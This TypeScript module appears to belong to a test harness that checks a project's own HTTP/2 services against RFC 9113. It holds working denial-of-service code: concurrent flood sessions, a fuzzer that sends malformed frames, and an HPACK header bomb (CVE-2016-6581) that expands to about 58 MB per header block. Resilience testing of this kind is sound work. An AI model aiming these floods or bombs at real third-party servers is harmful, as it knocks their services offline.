/** Attacks by frames of HTTP/2 over TLS (RFC 9113). */
import { type Attack, type Field, demand, scaled } from '../attack.ts';
import type { ServiceName } from '../target/system.ts';
import { pause } from '../wire/connections.ts';
import { Flag, Frame, PREFACE, header, settings, toFrame } from '../wire/http2-frames.ts';
import { inParallel } from '../wire/http.ts';
import { FLOODS, flood, openSession, request } from './http2-floods.ts';

const HELD_MS = 5000;
const SESSIONS = 8;

async function run(name: string, field: Field, target: ServiceName): Promise<string> {
  const { run: send, isUnread = false, more = [] } = FLOODS[name] as (typeof FLOODS)[string];
  const sessions = await Promise.all(Array.from({ length: SESSIONS }, () => openSession(field, target, { isUnread, more })));
  const counts = await Promise.all(sessions.map((session) => send(field, target, session)));
  await pause(field.scale * HELD_MS);
  const open = sessions.filter(({ isClosed }) => !isClosed()).length;
  return `${SESSIONS} sessions sent ${Math.min(...counts)} to ${Math.max(...counts)} each; ${open} open after it`;
}

/** Random frames behind a good preface, and prefaces that are wrong. */
async function fuzz(field: Field, target: ServiceName): Promise<string> {
  const { random } = field;
  const sessions = Array.from({ length: scaled(field, 600) }, () =>
    Buffer.concat([
      random.chance(0.9) ? PREFACE : random.bytes(24),
      random.chance(0.9) ? settings() : Buffer.alloc(0),
      ...Array.from({ length: 1 + random.upTo(10) }, () =>
        random.chance(0.3)
          ? request(target, random.upTo(9), [
              ['x', 'y'],
              [
                random.pick([':path', 'Upper', 'connection', 'te', 'host', 'content-length', '']),
                random.pick(['a', '5', '\r\n', '\u0000']),
              ],
            ])
          : toFrame(random.upTo(12), {
              stream: random.chance(0.5) ? random.upTo(9) : 0,
              flags: random.upTo(255),
              payload: random.bytes(random.upTo(60)),
              ...(random.chance(0.1) && { statedLength: random.upTo(0xffffff) }),
            }),
      ),
    ]),
  );
  let closed = 0;
  await inParallel(sessions.length, 16, async (n) => {
    const session = await field.connections.open(field.addresses[target], { protocols: ['h2'] });
    session.socket.write(sessions[n] as Buffer);
    await session.until(() => false, 150);
    if (session.isClosed()) closed++;
    session.socket.destroy();
  });
  return `${sessions.length} sessions of random frames, ${closed} closed by the server`;
}

/** RFC 9113 §10.5.1: header lists have a limit (431), and it is the connection's, not the process's. */
async function headerBomb(field: Field, target: ServiceName): Promise<string> {
  // One entry of the dynamic table, named again and again by one byte: 4 KiB of header a byte.
  const bomb = Buffer.concat([header('x-bomb', 'x'.repeat(3900), true), Buffer.alloc(15_000, 0xbe)]);
  const sessions = await Promise.all(Array.from({ length: SESSIONS }, () => openSession(field, target)));
  for (const session of sessions)
    await flood(session, scaled(field, 200), (n) =>
      toFrame(Frame.headers, {
        stream: 2 * n + 1,
        flags: Flag.endHeaders | Flag.endStream,
        payload: Buffer.concat([
          header(':method', 'GET'),
          header(':path', '/'),
          header(':scheme', 'https'),
          header(':authority', 'localhost'),
          bomb,
        ]),
      }),
    );
  await pause(field.scale * HELD_MS);
  demand(sessions.length === SESSIONS, 'no sessions');
  return `${SESSIONS} sessions, each header block 58 MB when unpacked; ${sessions.filter(({ isClosed }) => !isClosed()).length} open after it`;
}

const TARGETED = ['gateway', 'rest-bridge'] as const;
export const HTTP2_ATTACKS: readonly Attack[] = TARGETED.flatMap((target): Attack[] => [
  ...Object.entries(FLOODS).map(([name, { clause }]): Attack => ({
    name: `HTTP/2: ${name} at ${target}`,
    target,
    family: 'HTTP/2',
    clause,
    needs: 'tls',
    isLoad: true,
    run: (field) => run(name, field, target),
  })),
  {
    name: `HTTP/2: header bombs at ${target}`,
    target,
    family: 'HTTP/2',
    clause: 'RFC 9113 §10.5.1, CVE-2016-6581: headers have at most 16 KiB (431)',
    needs: 'tls',
    isLoad: true,
    run: (field) => headerBomb(field, target),
  },
  {
    name: `HTTP/2: random frames at ${target}`,
    target,
    family: 'HTTP/2',
    clause: 'RFC 9113 §5.4: an error ends the stream or the connection, nothing else',
    needs: 'tls',
    run: (field) => fuzz(field, target),
  },
]);
